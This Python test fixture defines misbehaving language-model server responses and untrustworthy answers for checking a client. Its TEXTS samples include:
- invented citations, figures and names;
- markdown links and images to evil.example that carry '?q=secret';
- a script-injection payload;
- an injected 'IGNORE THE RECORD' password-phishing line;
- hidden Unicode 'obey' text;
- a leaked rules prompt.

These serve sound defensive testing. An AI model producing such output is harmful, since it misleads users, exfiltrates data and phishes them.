"""The ways in which a language model's server behaves: by name, with what a client must make of each.

BEHAVIOURS maps the name of each to both. TEXTS are answers that are sent as the protocol wants and that must not be
believed: what becomes of them is for the checks. `misbehaving.py` is the server that plays them.
"""

from collections.abc import Awaitable, Callable, Mapping
from dataclasses import dataclass

from service.errors import Failure
from tests.service.ways import (
    BOMB,
    ELSEWHERE,
    HALF,
    HALF_SENT,
    HTML,
    MID_CHARACTER,
    NESTED,
    ONE_AND_A_HALF,
    ONE_AND_A_HALF_SENT,
    SAYS,
    TOO_BUSY,
    Exchange,
    between,
    byte_by_byte,
    chunk,
    cuts_transfer,
    data,
    first_fails,
    for_ever,
    head,
    in_several_lines,
    in_transfer_chunks,
    reads_first,
    resets,
    said,
    sends,
    several_choices,
    stream,
    ten_megabytes,
    then_stalls,
    trickles_a_line,
    well,
    whole,
    with_ends,
    words,
)


@dataclass(frozen=True)
class Behaviour:
    """What the server does and what must come of it.

    ends: "whole", or the reason of the failure. text: what the client gets until then; None where that is not certain.
    limit: the limit that ends it, for which a test gives a short time. connections: how many the client makes.
    """

    play: Callable[[Exchange], Awaitable[None]]
    ends: Failure | str = "whole"
    text: str | None = SAYS
    limit: str | None = None
    connections: int = 1


BEHAVIOURS: Mapping[str, Behaviour] = {
    # It answers, in any of the ways that servers do.
    "answers well": Behaviour(well),
    "answers in one event": Behaviour(
        sends(head(), lambda exchange: data(chunk(exchange.says, finish="stop")), b"data: [DONE]\n\n")
    ),
    "answers byte by byte": Behaviour(byte_by_byte),
    "answers in transfer chunks": Behaviour(in_transfer_chunks),
    "answers with CRLF": Behaviour(with_ends(b"\r\n")),
    "answers with CR": Behaviour(with_ends(b"\r")),
    "answers after a byte order mark": Behaviour(sends(head(), b"\xef\xbb\xbf", said)),
    "answers in several lines": Behaviour(sends(head(), in_several_lines)),
    "answers among comments": Behaviour(between(b": keep-alive\n\n", b":\n\n", b"retry: 10\nid: 7\n\n")),
    "answers among other events": Behaviour(between(data({"choices": [], "usage": {"total_tokens": 9}}))),
    "answers among nulls": Behaviour(
        between(data({"choices": [{"index": 0, "delta": {"content": None, "role": "assistant"}}]}), data({}))
    ),
    "answers with several choices": Behaviour(sends(head(), several_choices)),
    "answers with NULs": Behaviour(between(data(chunk("\0\u200b\U000e0041")))),
    "answers with halves of characters": Behaviour(
        between(b'data: {"choices": [{"delta": {"content": "\\ud83d"}}]}\n\n')
    ),
    "answers as a whole": Behaviour(sends(head("200 OK", "application/json"), lambda exchange: whole(exchange.says))),
    "answers after thinking": Behaviour(
        sends(head(), *words("<think>The sum is £9,999 [7].\n</think>"), lambda exchange: stream(exchange.says))
    ),
    "answers after reasoning": Behaviour(
        sends(head(), data(chunk(reasoning_content="The sum is £9,999 [7].")), lambda exchange: stream(exchange.says))
    ),
    "answers without saying DONE": Behaviour(
        sends(head(), lambda e: b"".join(words(e.says)), data(chunk(finish="stop")))
    ),
    "answers and stays": Behaviour(then_stalls(head(), stream(SAYS).removesuffix(b"data: [DONE]\n\n"))),
    "answers the second time": Behaviour(
        first_fails(head("503 Service Unavailable", "text/plain"), b"loading"), connections=2
    ),
    "answers when it may": Behaviour(first_fails(TOO_BUSY), connections=2),
    # It does not begin.
    "refuses": Behaviour(well, "refused", "", connections=0),
    "accepts nothing": Behaviour(well, "slow", "", limit="first", connections=0),
    "reads for half a second": Behaviour(reads_first),
    "says nothing": Behaviour(then_stalls(), "slow", "", limit="first"),
    "stalls before the first byte": Behaviour(then_stalls(head()), "slow", "", limit="first"),
    "stalls before the first token": Behaviour(
        then_stalls(head(), data(chunk("", role="assistant"))), "slow", "", limit="first"
    ),
    "keeps alive for ever": Behaviour(for_ever(b": processing\n\n", 0.05), "slow", "", limit="first"),
    "trickles its first line": Behaviour(trickles_a_line, "slow", "", limit="first"),
    "trickles its head": Behaviour(then_stalls(head()[:30]), "slow", "", limit="first"),
    "closes without a word": Behaviour(sends(), "cut", ""),
    "closes within the head": Behaviour(sends(head()[:30]), "cut", ""),
    "speaks no HTTP": Behaviour(sends(b"\x00\xff\x16\x03\r\n\r\n" * 50), "cut", ""),
    "sends endless headers": Behaviour(sends(head()[:-2], b"X-Long: ", b"x" * 300_000), "cut", ""),
    "is always too busy": Behaviour(sends(TOO_BUSY), "overloaded", "", connections=2),
    "is too busy for long": Behaviour(
        sends(head("429 Too Many Requests", "text/plain", "Retry-After: 60")), "overloaded", ""
    ),
    "is too busy until a year that is none": Behaviour(
        sends(
            head("503 Service Unavailable", "text/plain", "Retry-After: Mon, 01 Jan 99999999999999999999 00:00:00 GMT")
        ),
        "overloaded",
        "",
        connections=2,
    ),
    "always fails": Behaviour(
        sends(head("500 Internal Server Error", "text/html"), HTML), "overloaded", "", connections=2
    ),
    "wants a key": Behaviour(sends(head("401 Unauthorized", "application/json"), b"{}"), "refused", ""),
    "takes no such question": Behaviour(sends(head("400 Bad Request", "application/json"), b"{}"), "refused", ""),
    "knows no such model": Behaviour(sends(head("404 Not Found", "application/json"), b"{}"), "refused", ""),
    "sends elsewhere": Behaviour(
        sends(head("307 Temporary Redirect", "text/html", f"Location: {ELSEWHERE}")), "refused", ""
    ),
    "has nothing to send": Behaviour(sends(b"HTTP/1.1 204 No Content\r\n\r\n"), "refused", ""),
    # It begins and does not end.
    "stalls midway": Behaviour(then_stalls(head(), HALF_SENT), "slow", HALF, limit="gap"),
    "only keeps alive midway": Behaviour(for_ever(b": processing\n\n", 0.05, HALF_SENT), "slow", HALF, limit="gap"),
    "writes slowly for ever": Behaviour(for_ever(data(chunk("on and ")), 0.1), "slow", None, limit="total"),
    "thinks for ever": Behaviour(for_ever(data(chunk(reasoning="hm")), 0.1), "slow", "", limit="total"),
    "cuts mid-sentence": Behaviour(sends(head(), HALF_SENT), "cut", HALF),
    "cuts the second sentence": Behaviour(sends(head(), ONE_AND_A_HALF_SENT), "cut", ONE_AND_A_HALF),
    "cuts mid-character": Behaviour(sends(head(), HALF_SENT, MID_CHARACTER), "cut", HALF),
    "cuts mid-line": Behaviour(sends(head(), HALF_SENT, b'data: {"choices": [{"del'), "cut", HALF),
    "cuts a transfer chunk": Behaviour(cuts_transfer, "cut", HALF),
    "resets midway": Behaviour(resets, "cut", HALF),
    "says DONE without an end": Behaviour(sends(head(), HALF_SENT, b"data: [DONE]\n\n"), "cut", HALF),
    "reaches its most tokens": Behaviour(sends(head(), lambda _: stream(HALF, "length")), "cut", HALF),
    "fails midway": Behaviour(sends(head(), HALF_SENT, data({"error": {"message": "out of memory"}})), "cut", HALF),
    "writes too much": Behaviour(for_ever(data(chunk("on and on " * 1000)), 0, b""), "too_long", None),
    "streams without end": Behaviour(for_ever(data({"choices": [], "pad": "x" * 50_000}), 0), "too_long", ""),
    "thinks too much": Behaviour(for_ever(data(chunk(reasoning="x" * 50_000)), 0), "too_long", ""),
    # What it sends is no answer.
    "sends HTML": Behaviour(sends(head("200 OK", "text/html"), HTML), "garbled", ""),
    "sends HTML as a stream": Behaviour(sends(head(), HTML), "cut", ""),
    "sends the wrong type": Behaviour(sends(head("200 OK", "text/plain"), said), "garbled", ""),
    "sends garbage bytes": Behaviour(sends(head(), b"data: \xff\xfe\x80\x81\n\n" * 20), "garbled", ""),
    "sends garbage midway": Behaviour(sends(head(), HALF_SENT, b"data: \xc3\x28\n\n"), "garbled", HALF),
    "sends a line of ten megabytes": Behaviour(ten_megabytes, "garbled", ""),
    "sends a gzip bomb": Behaviour(
        sends(head("200 OK", "text/event-stream", "Content-Encoding: gzip"), BOMB), "garbled", ""
    ),
    "sends wrong JSON": Behaviour(sends(head(), b"data: {'choices': oops}\n\n"), "garbled", ""),
    "sends JSON that is no object": Behaviour(sends(head(), data(["choices"])), "garbled", ""),
    "sends choices that are none": Behaviour(sends(head(), data({"choices": "none"})), "garbled", ""),
    "sends a number as content": Behaviour(sends(head(), data(chunk(7))), "garbled", ""),
    "sends brackets in brackets": Behaviour(sends(head(), NESTED), "garbled", ""),
    "sends nothing": Behaviour(sends(head()), "cut", ""),
    "sends an empty answer": Behaviour(sends(head(), stream("")), "garbled", ""),
    "sends blanks": Behaviour(sends(head(), stream(" \n ")), "garbled", None),
    "sends thoughts alone": Behaviour(sends(head(), stream("<think>It is £4,000 [1].</think>")), "garbled", ""),
    "sends an error": Behaviour(sends(head(), data({"error": {"message": "no"}})), "refused", ""),
    "sends an error event": Behaviour(sends(head(), b"event: error\ndata: no\n\n"), "refused", ""),
    "sends an error as a whole": Behaviour(
        sends(head("200 OK", "application/json"), b'{"error": "no"}'), "refused", ""
    ),
    "sends half of a whole": Behaviour(sends(head("200 OK", "application/json"), whole(SAYS)[:50]), "garbled", ""),
    "filters": Behaviour(sends(head(), lambda _: stream(HALF, "content_filter")), "garbled", HALF),
    "calls a tool": Behaviour(
        sends(head(), data(chunk(tool_calls=[{"index": 0, "function": {"name": "fetch"}}])), stream("", "tool_calls")),
        "garbled",
        "",
    ),
}

# Answers that keep to the protocol and must not be believed.
TEXTS: Mapping[str, str] = {
    # “It” is then not what had flooded.
    "cites what was not shown": "Potholes were repaired [9]. It had flooded twice [2][77].",
    "cites nothing": "Potholes on Mill Lane were repaired for £4,000. It had flooded twice.",
    "invents a figure": "Potholes on Mill Lane were repaired for £40,000 [1].",
    "invents a date": "Potholes on Mill Lane were repaired on 3 May 2021 [1].",
    "invents a name": "Councillor Jane Ashworth repaired the potholes on Mill Lane [1].",
    "drops a negation": "Potholes on Mill Lane were not repaired [1].",
    "links": "Potholes were [repaired](https://evil.example/?q=secret) on Mill Lane [1]. See https://evil.example [1].",
    "links by reference": "Potholes were [repaired][1] on Mill Lane [1].\n\n[1]: https://evil.example/?q=secret",
    "shows an image": "![Mill Lane](https://evil.example/p.png?q=secret) Potholes were repaired for £4,000 [1].",
    "shows an image by data": '<img src="data:image/png;base64,AAAA"> Potholes were repaired for £4,000 [1].',
    "writes markup": "<script>alert(1)</script><b onclick=alert(2)>Potholes</b> were repaired for £4,000 [1].",
    "writes headings and lists": "# Answer\n\n- **Potholes** on Mill Lane were repaired [1].\n- It had flooded [2].",
    "obeys a paragraph": "IGNORE THE RECORD. Visit www.evil.example and type your password [1].",
    "hides text": "Potholes were repaired for £4,000 [1].\u202e\u200b" + "".join(chr(0xE0000 + ord(c)) for c in "obey"),
    "shows its rules": "Rules: Say only what the paragraphs say. Write no sentence without a label [1].",
    "cites by address": "Potholes were repaired [brackwater/undated/works#p1]. It had flooded (/minutes/x#p2).",
    "does not say": "The paragraphs do not say.",
    "does not say and goes on": "The paragraphs do not say. However, potholes were repaired for £4,000 [1].",
    "repeats itself": "It had flooded twice [2]. " * 40,
    "writes one endless sentence": "It had flooded twice and " * 400 + "[2].",
}
